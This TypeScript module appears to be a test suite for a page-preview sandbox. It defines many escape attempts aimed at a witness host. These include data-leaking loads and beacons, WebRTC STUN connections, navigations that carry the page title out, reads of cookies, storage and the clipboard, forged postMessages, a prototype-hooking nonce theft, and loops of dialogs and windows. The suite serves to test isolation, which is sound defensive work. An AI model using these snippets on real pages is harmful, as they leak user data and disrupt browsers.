import type { Witness } from "./witness.ts";

/**
 * What a hostile page can try. A row is a name, what stands in the page, and what its script does; every row has a
 * witness of its own. `reaches` is what the same row does in a page without any policy: a row that would reach nothing
 * there proves nothing here.
 */
export interface Escape {
  readonly name: string;
  readonly reaches?: "request" | "datagram";
  readonly head?: string;
  readonly body?: string;
  readonly css?: string;
  /** Taken out before the room has it; there, the browser's network layer ends the whole frame. */
  readonly composed?: true;
  /** The body of an async function. What it returns is a breach by itself. */
  readonly script?: string;
}

export type Row = (at: Witness) => Escape;
export interface Group {
  readonly name: string;
  readonly rows: readonly Row[];
}

const request = (name: string, parts: (at: Witness) => Omit<Escape, "name" | "reaches">): Row => {
  return (at) => ({ name, reaches: "request", ...parts(at) });
};
const refused = (name: string, parts: (at: Witness) => Omit<Escape, "name" | "reaches">): Row => {
  return (at) => ({ name, ...parts(at) });
};
const inBody = (name: string, body: (at: Witness) => string) => request(name, (at) => ({ body: body(at) }));
const inHead = (name: string, head: (at: Witness) => string) => request(name, (at) => ({ head: head(at) }));
const inStyles = (name: string, css: (at: Witness) => string, body = "") =>
  request(name, (at) => ({ css: css(at), body }));
const inScript = (name: string, script: (at: Witness) => string) =>
  request(name, (at) => ({ script: script(at) }));

/** Everything that loads by standing in the page. */
const markup: readonly Row[] = [
  inBody("a picture", (at) => `<img src="${at.http}/x">`),
  inBody("a picture of a set", (at) => `<img srcset="${at.http}/x 1x">`),
  inBody(
    "a picture of a source",
    (at) => `<picture><source srcset="${at.http}/x"><img src="data:,"></picture>`,
  ),
  inBody("a picture as a button", (at) => `<input type="image" src="${at.http}/x">`),
  inBody("a picture for attribution", (at) => `<img attributionsrc="${at.http}/x" src="${at.http}/x">`),
  inBody("a background attribute", (at) => `<table background="${at.http}/x"><tr><td>x</table>`),
  inBody("a drawing's picture", (at) => `<svg><image href="${at.http}/x" width="9" height="9"/></svg>`),
  refused("a drawing's use", (at) => ({ body: `<svg><use href="${at.http}/x#a"/></svg>` })),
  inBody(
    "a filter's picture",
    (at) =>
      `<svg width="9" height="9"><filter id="fe"><feImage href="${at.http}/x"/></filter><rect width="9" height="9" filter="url(#fe)"/></svg>`,
  ),
  inBody("a video", (at) => `<video src="${at.http}/x" preload="auto"></video>`),
  inBody("a poster", (at) => `<video poster="${at.http}/x"></video>`),
  inBody("a sound", (at) => `<audio src="${at.http}/x" preload="auto"></audio>`),
  inBody("a source", (at) => `<audio preload="auto"><source src="${at.http}/x" type="audio/mpeg"></audio>`),
  refused("a track", (at) => ({
    body: `<video src="data:video/mp4,x"><track default kind="captions" src="${at.http}/x"></video>`,
  })),
  inBody("an object", (at) => `<object data="${at.http}/x"></object>`),
  inBody("an embed", (at) => `<embed src="${at.http}/x">`),
  inBody("a frame", (at) => `<iframe src="${at.http}/x"></iframe>`),
  inBody(
    "a frame that allows everything",
    (at) => `<iframe allow="*" allowfullscreen src="${at.http}/x"></iframe>`,
  ),
  inBody("a frame with a document of its own", (at) => `<iframe srcdoc="<img src='${at.http}/x'>"></iframe>`),
  inBody("a frame with data", (at) => `<iframe src="data:text/html,<img src='${at.http}/x'>"></iframe>`),
  inBody(
    "a frame with a script address",
    (at) => `<iframe src="javascript:'<img src=${at.http}/x>'"></iframe>`,
  ),
  refused("a portal", (at) => ({ body: `<portal src="${at.http}/x"></portal>` })),
  refused("a fenced frame", (at) => ({ body: `<fencedframe src="${at.http}/x"></fencedframe>` })),
  inBody("a script", (at) => `<script src="${at.http}/x"></script>`),
  inBody("a module", (at) => `<script type="module" src="${at.http}/x"></script>`),
  inBody("a module's import", (at) => `<script type="module">import "${at.http}/x";</script>`),
  inHead("a style sheet", (at) => `<link rel="stylesheet" href="${at.http}/x">`),
  inHead("a preload", (at) => `<link rel="preload" as="image" href="${at.http}/x">`),
  inHead("a module preload", (at) => `<link rel="modulepreload" href="${at.http}/x">`),
  inHead("a prefetch", (at) => `<link rel="prefetch" href="${at.http}/x">`),
  refused("a preconnect", (at) => ({ head: `<link rel="preconnect" href="${at.http}">` })),
  refused("a prerender", (at) => ({ head: `<link rel="prerender" href="${at.http}/x">` })),
  refused("an icon", (at) => ({
    head: `<link rel="icon" href="${at.http}/x"><link rel="apple-touch-icon" href="${at.http}/x">`,
  })),
  refused("a manifest", (at) => ({ head: `<link rel="manifest" href="${at.http}/x">` })),
  refused("a dictionary", (at) => ({ head: `<link rel="compression-dictionary" href="${at.http}/x">` })),
  refused("a policy that reports", (at) => ({
    head: `<meta http-equiv="content-security-policy" content="img-src 'none'; report-uri ${at.http}/x">`,
  })),
  refused("speculation rules", (at) => ({
    head: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at.http}/x"],"requires":["anonymous-client-ip-when-cross-origin"]}],"prerender":[{"source":"list","urls":["${at.http}/y"]}]}</script>`,
  })),
  refused("a base for every address", (at) => ({
    head: `<base href="${at.http}/">`,
    script: `const picture = new Image(); picture.src = "x"; await picture.decode().catch(() => {});`,
  })),
  inStyles("an import of styles", (at) => `@import url("${at.http}/x");`),
  inStyles("a background", (at) => `#bg { background: url("${at.http}/x") }`, `<p id="bg">x</p>`),
  inStyles("an image set", (at) => `#set { background: image-set("${at.http}/x" 1x) }`, `<p id="set">x</p>`),
  inStyles(
    "a font",
    (at) => `@font-face { font-family: away; src: url("${at.http}/x") } #font { font-family: away }`,
    `<p id="font">x</p>`,
  ),
  inStyles(
    "a list's bullet",
    (at) => `#li { display: list-item; list-style-image: url("${at.http}/x") }`,
    `<p id="li">x</p>`,
  ),
  inStyles(
    "a border's picture",
    (at) => `#bi { border: 9px solid; border-image: url("${at.http}/x") 3 }`,
    `<p id="bi">x</p>`,
  ),
  inStyles("generated content", (at) => `#gc::before { content: url("${at.http}/x") }`, `<p id="gc">x</p>`),
  inStyles("a mask", (at) => `#mask { mask: url("${at.http}/x") }`, `<p id="mask">x</p>`),
  inStyles(
    "a variable with an address",
    (at) => `:root { --a: url("${at.http}/x") } #va { background: var(--a) }`,
    `<p id="va">x</p>`,
  ),
  refused("a cursor", (at) => ({ css: `html, body { cursor: url("${at.http}/x"), auto }` })),
  refused("a foreign filter", (at) => ({
    css: `#ff { filter: url("${at.http}/x#f"); clip-path: url("${at.http}/x#c") }`,
    body: `<p id="ff">x</p>`,
  })),
];

/** What a script can ask for by itself. */
const requests: readonly Row[] = [
  inScript("fetch", (at) => `await fetch("${at.http}/x", { mode: "no-cors" });`),
  inScript(
    "fetch that outlives its page",
    (at) => `await fetch("${at.http}/x", { mode: "no-cors", method: "POST", keepalive: true, body: "x" });`,
  ),
  refused("a fetch for later", (at) => ({ script: `fetchLater("${at.http}/x", { activateAfter: 0 });` })),
  inScript(
    "XMLHttpRequest",
    (at) => `const asked = new XMLHttpRequest(); asked.open("GET", "${at.http}/x"); asked.send();`,
  ),
  inScript(
    "XMLHttpRequest that waits",
    (at) => `const asked = new XMLHttpRequest(); asked.open("GET", "${at.http}/x", false); asked.send();`,
  ),
  inScript("an event source", (at) => `new EventSource("${at.http}/x");`),
  inScript("a beacon", (at) => `navigator.sendBeacon("${at.http}/x", "x");`),
  inScript("a web socket", (at) => `new WebSocket("${at.ws}/x");`),
  inScript(
    "a stream of a web socket",
    (at) =>
      `(typeof WebSocketStream === "function" ? new WebSocketStream("${at.ws}/x").opened.catch(() => {}) : new WebSocket("${at.ws}/x"));`,
  ),
  refused("web transport", (at) => ({ script: `await new WebTransport("https://${at.host}/x").ready;` })),
  inScript("a picture made by a script", (at) => `new Image().src = "${at.http}/x";`),
  inScript("a sound made by a script", (at) => `new Audio("${at.http}/x").load();`),
  inScript("a font made by a script", (at) => `await new FontFace("away", "url(${at.http}/x)").load();`),
  inScript(
    "a constructed style sheet",
    (at) =>
      `const sheet = new CSSStyleSheet(); sheet.replaceSync("body { border-image: url(${at.http}/x) 3 }"); document.adoptedStyleSheets = [sheet];`,
  ),
  inScript("an import while running", (at) => `await import("${at.http}/x");`),
  inScript(
    "an import through data",
    (at) => `await import("data:text/javascript," + encodeURIComponent('import "${at.http}/x"'));`,
  ),
  refused("a worker", (at) => ({ script: `new Worker("${at.http}/x");` })),
  inScript(
    "a worker of a blob",
    (at) => `new Worker(URL.createObjectURL(new Blob(["fetch('${at.http}/x', { mode: 'no-cors' })"])));`,
  ),
  inScript(
    "a worker of data",
    (at) =>
      `new Worker("data:text/javascript," + encodeURIComponent("fetch('${at.http}/x', { mode: 'no-cors' })"));`,
  ),
  refused("a shared worker", (at) => ({
    script: `new SharedWorker("${at.http}/x"); new SharedWorker("data:text/javascript,fetch('${at.http}/x')");`,
  })),
  refused("a service worker", (at) => ({
    script: `await navigator.serviceWorker.register("${at.http}/x");`,
  })),
  refused("a service worker of this address", () => ({
    script: `await navigator.serviceWorker.register("/theme.js", { scope: "/" }); return "registered a service worker";`,
  })),
  inScript("a sound worklet", (at) => `await new AudioContext().audioWorklet.addModule("${at.http}/x");`),
  inScript("a paint worklet", (at) => `await CSS.paintWorklet.addModule("${at.http}/x");`),
  refused("a shared storage worklet", (at) => ({
    script: `await sharedStorage.createWorklet("${at.http}/x");`,
  })),
  refused("an advertisement", (at) => ({
    script: `await navigator.joinAdInterestGroup({ owner: "https://${at.host}", name: "x", biddingLogicURL: "https://${at.host}/x" }, 9); await navigator.runAdAuction({ seller: "https://${at.host}", decisionLogicURL: "https://${at.host}/x" });`,
  })),
  refused("a payment", (at) => ({
    script: `await new PaymentRequest([{ supportedMethods: "https://${at.host}/x" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment();`,
  })),
  refused("a federated sign-in", (at) => ({
    script: `await navigator.credentials.get({ identity: { providers: [{ configURL: "https://${at.host}/x", clientId: "x" }] } });`,
  })),
  refused("a second screen", (at) => ({
    script: `await new PresentationRequest("https://${at.host}/x").start();`,
  })),
  refused("a report to somewhere", (at) => ({
    script: `const meta = document.createElement("meta"); meta.httpEquiv = "reporting-endpoints"; meta.content = 'default="${at.http}/x"'; document.head.append(meta); new ReportingObserver(() => {}).observe();`,
  })),
  inScript(
    "a link that says where it leads after it stands",
    (at) =>
      `const link = document.createElement("link"); document.head.append(link); link.href = "${at.http}/x"; link.rel = "prefetch";`,
  ),
  refused("a preconnect that says so after it stands", (at) => ({
    script: `const link = document.createElement("link"); document.head.append(link); link.href = "${at.http}"; link.rel = "preconnect";`,
  })),
  refused("speculation rules of a script", (at) => ({
    script: `const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["${at.http}/x"] }] }); document.head.append(rules);`,
  })),
  inScript(
    "an icon in a shadow",
    (at) =>
      `const host = document.body.appendChild(document.createElement("p")); host.attachShadow({ mode: "closed" }).innerHTML = '<img src="${at.http}/x">';`,
  ),
  inScript(
    "a document written anew",
    (at) => `document.body.insertAdjacentHTML("beforeend", '<img src="${at.http}/x">');`,
  ),
  refused("a style transformation", (at) => ({
    script: `const parse = (text) => new DOMParser().parseFromString(text, "text/xml"); const work = new XSLTProcessor(); work.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\\'${at.http}/x\\')"/></xsl:template></xsl:stylesheet>')); work.transformToFragment(parse("<a/>"), document);`,
  })),
];

/** A media connection, which no content policy covers, out of whatever realm still has the constructor. */
const connect = (at: Witness, from: string): string =>
  `const Peer = (${from}).RTCPeerConnection; const peer = new Peer({ iceServers: [{ urls: "${at.stun}" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer());`;
/** The same as a whole document for a nested frame. */
const connectingPage = (at: Witness): string =>
  `<script>(async () => { ${connect(at, "window")} })()</script>`;
const datagram = (
  name: string,
  script: (at: Witness) => string,
  more: Omit<Escape, "name" | "script"> = {},
): Row => {
  return (at) => ({ name, reaches: "datagram", ...more, script: script(at) });
};
const media: readonly Row[] = [
  datagram("a media connection", (at) => connect(at, "window")),
  datagram("a media connection by its old name", (at) =>
    connect(at, "{ RTCPeerConnection: window.webkitRTCPeerConnection }"),
  ),
  datagram(
    "a media connection out of a nested frame",
    (at) =>
      `const frame = document.createElement("iframe"); document.body.append(frame); ${connect(at, "frame.contentWindow")}`,
  ),
  datagram(
    "a media connection of a nested frame",
    (at) =>
      `const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(connectingPage(at)).replaceAll("</", "<\\/")}; document.body.append(frame);`,
  ),
  datagram(
    "a media connection of a frame in a closed shadow",
    (at) =>
      `const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(connectingPage(at)).replaceAll("</", "<\\/")}; document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }).append(frame);`,
  ),
  datagram(
    "a media connection of a frame in a shadow that the parser made",
    (at) =>
      `class Holder extends HTMLElement { constructor() { super(); this.inside = this.attachInternals().shadowRoot; } } customElements.define("x-holder", Holder); const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(connectingPage(at)).replaceAll("</", "<\\/")}; document.querySelector("x-holder").inside.append(frame);`,
    { composed: true, body: `<x-holder><template shadowrootmode="closed"><p>x</p></template></x-holder>` },
  ),
  datagram(
    "a media connection of a frame that is set unsafely",
    (at) =>
      `const holder = document.body.appendChild(document.createElement("p")); holder.setHTMLUnsafe("<div><template shadowrootmode=closed><iframe srcdoc='" + ${JSON.stringify(connectingPage(at)).replaceAll("</", "<\\/")}.replaceAll("&", "&amp;").replaceAll("'", "&#39;") + "'></iframe></template></div>");`,
  ),
  datagram(
    "a media connection of a frame that is a script",
    (at) =>
      `const frame = document.createElement("iframe"); frame.src = "javascript:" + encodeURIComponent(${JSON.stringify(`(async () => { ${connect(at, "window")} })()`)}); document.body.append(frame);`,
  ),
  datagram(
    "a media connection of a frame that is written",
    (at) =>
      `document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc='" + ${JSON.stringify(connectingPage(at)).replaceAll("</", "<\\/")}.replaceAll("'", "&#39;") + "'></iframe>");`,
  ),
];

/** Ways to leave. Here they reach what they lead to; without a policy the first would end the page. */
export const leaving: readonly Row[] = [
  request("its own address", (at) => ({ script: `location.href = "${at.http}/x";` })),
  request("its own address, assigned", (at) => ({ script: `location.assign("${at.http}/x");` })),
  request("its own address, replaced", (at) => ({ script: `location.replace("${at.http}/x");` })),
  request("its own document's address", (at) => ({
    script: `document.location = "${at.http}/x?said=" + encodeURIComponent(document.title);`,
  })),
  request("its host alone", (at) => ({ script: `location.host = "${at.host}";` })),
  request("an address through the navigation object", (at) => ({
    script: `await navigation.navigate("${at.http}/x").finished;`,
  })),
  request("a refresh", (at) => ({ head: `<meta http-equiv="refresh" content="0;url=${at.http}/x">` })),
  request("a refresh made by a script", (at) => ({
    script: `const meta = document.createElement("meta"); meta.httpEquiv = "refresh"; meta.content = "0;url=${at.http}/x"; document.head.append(meta);`,
  })),
  request("a refresh that says so after it stands", (at) => ({
    script: `const meta = document.createElement("meta"); document.head.append(meta); meta.content = "0;url=${at.http}/x"; meta.httpEquiv = "refresh";`,
  })),
  request("a link", (at) => ({
    body: `<a id="go1" href="${at.http}/x">x</a>`,
    script: `document.getElementById("go1").click();`,
  })),
  request("a link that keeps its click to itself", (at) => ({
    body: `<a id="go2" href="${at.http}/x">x</a>`,
    script: `const link = document.getElementById("go2"); link.addEventListener("click", (event) => event.stopImmediatePropagation()); link.click();`,
  })),
  request("a link that is in no tree", (at) => ({
    script: `Object.assign(document.createElement("a"), { href: "${at.http}/x" }).click();`,
  })),
  refused("a link for the whole window", (at) => ({
    script: `Object.assign(document.createElement("a"), { href: "${at.http}/x", target: "_top" }).click();`,
  })),
  refused("a link for another window", (at) => ({
    script: `Object.assign(document.createElement("a"), { href: "${at.http}/x", target: "_blank" }).click();`,
  })),
  request("a link that pings", (at) => ({
    script: `Object.assign(document.createElement("a"), { href: "#x", ping: "${at.http}/x" }).click();`,
  })),
  refused("a link that downloads", (at) => ({
    script: `Object.assign(document.createElement("a"), { href: "${at.http}/x", download: "x" }).click();`,
  })),
  request("a form", (at) => ({
    script: `const form = Object.assign(document.createElement("form"), { action: "${at.http}/x" }); document.body.append(form); form.requestSubmit();`,
  })),
  request("a form that posts", (at) => ({
    body: `<form id="f1" method="post" action="${at.http}/x"><input name="a" value="1"></form>`,
    script: `HTMLFormElement.prototype.submit.call(document.getElementById("f1"));`,
  })),
  request("a form that keeps its submit to itself", (at) => ({
    body: `<form id="f2" method="post" action="${at.http}/x"><button id="b2">x</button></form>`,
    script: `const form = document.getElementById("f2"); form.addEventListener("submit", (event) => event.stopImmediatePropagation()); document.getElementById("b2").click();`,
  })),
  refused("a form for another window", (at) => ({
    body: `<form id="f3" target="_blank" action="${at.http}/x"></form>`,
    script: `document.getElementById("f3").requestSubmit();`,
  })),
  refused("a window", (at) => ({ script: `if (window.open("${at.http}/x")) return "opened a window";` })),
  request("its own window, opened", (at) => ({ script: `window.open("${at.http}/x", "_self");` })),
  refused("the window above, opened", (at) => ({ script: `window.open("${at.http}/x", "_top");` })),
  refused("the window above, by its address", (at) => ({ script: `top.location = "${at.http}/x";` })),
  refused("the window above, replaced", (at) => ({ script: `parent.location.replace("${at.http}/x");` })),
  refused("the frames beside it", (at) => ({
    script: `for (let n = 0; n < parent.length; n++) { const one = parent.frames[n]; if (one !== window) one.location = "${at.http}/x"; }`,
  })),
  refused("a page of data", () => ({ script: `location.href = "data:text/html,<h1>left</h1>";` })),
  refused("a page of a blob", () => ({
    script: `location.href = URL.createObjectURL(new Blob(["<h1>left</h1>"], { type: "text/html" }));`,
  })),
  refused("a page of this origin", () => ({ script: `location.href = "/";` })),
  refused("the address of a frame that may load pictures", () => ({
    script: `location.href = "/preview-frame?images=1";`,
  })),
  refused("the way back", () => ({ script: `history.back(); history.go(-2);` })),
  request("an address that ends in nothing", (at) => ({
    script: `Event.prototype.preventDefault = () => {}; Function.prototype.call = () => {}; Function.prototype.apply = () => {}; location.href = "${at.http}/x";`,
  })),
  refused("a document opened anew, then left", (at) => ({
    script: `const write = document.createElement("iframe"); document.body.append(write); try { write.contentWindow.parent.location = "${at.http}/x"; } catch {} `,
  })),
];

/** What stands around the page, and what the browser holds for it. */
const around: readonly Row[] = [
  refused("the app's document", () => ({
    script: `parent.document.title; return "read the app's document";`,
  })),
  refused("the document above", () => ({ script: `top.document.cookie; return "read the cookies above";` })),
  refused("the app's storage", () => ({
    script: `parent.localStorage.length; return "read the app's storage";`,
  })),
  refused("its own frame element", () => ({
    script: `if (window.frameElement) return "reached its frame";`,
  })),
  refused("the app's address", () => ({ script: `parent.location.href; return "read the app's address";` })),
  refused("the opener", () => ({ script: `if (window.opener) return "has an opener";` })),
  refused("the app's origin", () => ({
    script: `if (self.origin !== "null") return "has the origin " + self.origin;`,
  })),
  refused("the domain", () => ({
    script: `document.domain = location.hostname; parent.document.title; return "widened its domain";`,
  })),
  refused("cookies", () => ({
    script: `document.cookie = "escape=1; path=/"; const real = Object.getOwnPropertyDescriptor(Document.prototype, "cookie"); if (!real || !/escape=1/.test(document.cookie)) return; `,
  })),
  refused("the cookie store", () => ({
    script: `await cookieStore.set("escape", "1"); return "wrote a cookie";`,
  })),
  refused("a database", () => ({
    script: `await new Promise((done, fail) => { const asked = indexedDB.open("escape"); asked.onsuccess = done; asked.onerror = fail; }); return "opened a database";`,
  })),
  refused("caches", () => ({ script: `await caches.open("escape"); return "opened a cache";` })),
  refused("a private file system", () => ({
    script: `await navigator.storage.getDirectory(); return "opened a file system";`,
  })),
  refused("shared storage", () => ({
    script: `await sharedStorage.set("a", "1"); return "wrote shared storage";`,
  })),
  refused("access to unpartitioned storage", () => ({
    script: `await document.requestStorageAccess(); return "was given storage";`,
  })),
  refused("locks", () => ({
    script: `await navigator.locks.request("escape", () => {}); return "held a lock";`,
  })),
  refused("the clipboard", () => ({
    script: `await navigator.clipboard.readText(); return "read the clipboard";`,
  })),
  refused("writing to the clipboard", () => ({
    script: `await navigator.clipboard.writeText("escape"); return "wrote the clipboard";`,
  })),
  refused("the place", () => ({
    script: `await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)); return "knows the place";`,
  })),
  refused("the camera", () => ({
    script: `await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); return "sees";`,
  })),
  refused("the screen", () => ({
    script: `await navigator.mediaDevices.getDisplayMedia(); return "sees the screen";`,
  })),
  refused("the whole screen", () => ({
    script: `await document.documentElement.requestFullscreen(); return "filled the screen";`,
  })),
  refused("the pointer", () => ({
    script: `document.documentElement.requestPointerLock(); await new Promise((done) => setTimeout(done, 50)); if (document.pointerLockElement) return "locked the pointer";`,
  })),
  refused("notifications", () => ({
    script: `if ((await Notification.requestPermission()) === "granted") return "may notify";`,
  })),
  refused("a screen that stays awake", () => ({
    script: `await navigator.wakeLock.request("screen"); return "keeps the screen awake";`,
  })),
  refused("devices", () => ({
    script: `await navigator.usb.getDevices(); await navigator.bluetooth.requestDevice({ acceptAllDevices: true }); return "reached devices";`,
  })),
  refused("passkeys", () => ({
    script: `await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8) } }); return "asked for a passkey";`,
  })),
  refused("a protocol of its own", () => ({
    script: `navigator.registerProtocolHandler("web+escape", location.origin + "/%s"); return "registered a protocol";`,
  })),
  refused("dialogs without end", () => ({
    script: `for (let n = 0; n < 20; n++) { alert(n); confirm(n); prompt(n); }`,
  })),
  refused("printing without end", () => ({ script: `for (let n = 0; n < 20; n++) print();` })),
  refused("a question before leaving", () => ({
    script: `addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "x"; });`,
  })),
  refused("windows without end", () => ({
    script: `for (let n = 0; n < 20; n++) if (window.open("about:blank")) return "opened a window";`,
  })),
  refused("a channel to the app", () => ({
    script: `new BroadcastChannel("roseram").postMessage("escape");`,
  })),
  refused("a history without end", () => ({
    script: `for (let n = 0; n < 40; n++) { try { history.pushState(n, "", "#h" + n); } catch {} } history.go(-1);`,
  })),
];

/** Messages that look like the ones between the app and the frame. */
const forging: readonly Row[] = [
  refused("messages with guessed nonces", (at) => ({
    script: `for (const nonce of ["", "0", "null", undefined, null, 0, {}]) for (const kind of ["ready", "here", "problem", "console", "link", "form", "escape", "scroll", "blocked"]) parent.postMessage({ roseram: kind, nonce, message: "forged", text: "forged", href: "${at.http}/x", host: "forged.example", level: "error", x: 1, y: 1 }, "*");`,
  })),
  refused("a page for the app to show", (at) => ({
    script: `for (const to of [parent, top, window]) to.postMessage({ roseram: "page", nonce: "", html: "<h1>forged</h1><img src='${at.http}/x'>", scripts: true }, "*");`,
  })),
  refused("messages of a nested frame", () => ({
    script: `const frame = document.createElement("iframe"); frame.srcdoc = "<script>parent.parent.postMessage({ roseram: 'hello', images: true }, '*'); top.postMessage({ roseram: 'problem', nonce: '', message: 'forged' }, '*')<\\/script>"; document.body.append(frame);`,
  })),
  refused("messages that cannot be read", () => ({
    script: `parent.postMessage({ roseram: { toString: 1 }, nonce: [] }, "*"); parent.postMessage(null, "*"); parent.postMessage("roseram", "*"); parent.postMessage(new Array(1e5).fill("x"), "*"); parent.postMessage({ roseram: "problem", nonce: "x".repeat(1e6) }, "*");`,
  })),
  refused("the nonce, out of what the room uses", () => ({
    script: `let stolen = null; const look = (value) => { if (value && typeof value === "object" && typeof value.nonce === "string" && value.nonce) stolen = value.nonce; }; const assign = Object.assign; Object.assign = function (...all) { all.forEach(look); return assign(...all); }; Array.prototype.map = function () { look(this[0]); return []; }; Event.prototype.stopImmediatePropagation = () => {}; addEventListener("message", (event) => look(event.data), true); console.error("look"); console.log("look"); await new Promise((done) => setTimeout(done, 60)); Object.assign = assign; if (stolen) return "learned the nonce";`,
  })),
];

export const groups: readonly Group[] = [
  { name: "what stands in it", rows: markup },
  { name: "what its script asks for", rows: requests },
  { name: "media connections", rows: media },
  { name: "the app and the browser around it", rows: around },
  { name: "forged messages", rows: forging },
];

const PATIENCE_MS = 400;

/** All rows of a group as the three files of one page. It says "done" when every row has been tried. */
export const hostilePage = (escapes: readonly Escape[], atLast = "") => {
  const join = (part: "head" | "body" | "css") => escapes.map((one) => one[part] ?? "").join("\n");
  const tries = escapes
    .filter((one) => one.script !== undefined)
    .map((one) => `[${JSON.stringify(one.name)}, async () => { ${one.script} }]`);
  return {
    html: `<!doctype html><html lang="en"><head><title>Hostile</title>${join("head")}<link rel="stylesheet" href="styles.css"></head><body><h1>Hostile</h1><output id="tried">begun</output><ul id="breaches"></ul>${join("body")}<script src="script.js"></script></body></html>`,
    css: join("css"),
    javascript: `const pause = setTimeout;
const rows = [${tries.join(",\n")}];
(async () => {
  for (const [name, work] of rows) {
    const breach = await new Promise((done) => { pause(done, ${PATIENCE_MS}); work().then(done, () => done()); });
    if (typeof breach === "string") {
      const line = document.createElement("li");
      line.textContent = name + ": " + breach;
      document.getElementById("breaches").append(line);
    }
  }
  document.getElementById("tried").textContent = "done";
  ${atLast}
})();`,
  };
};
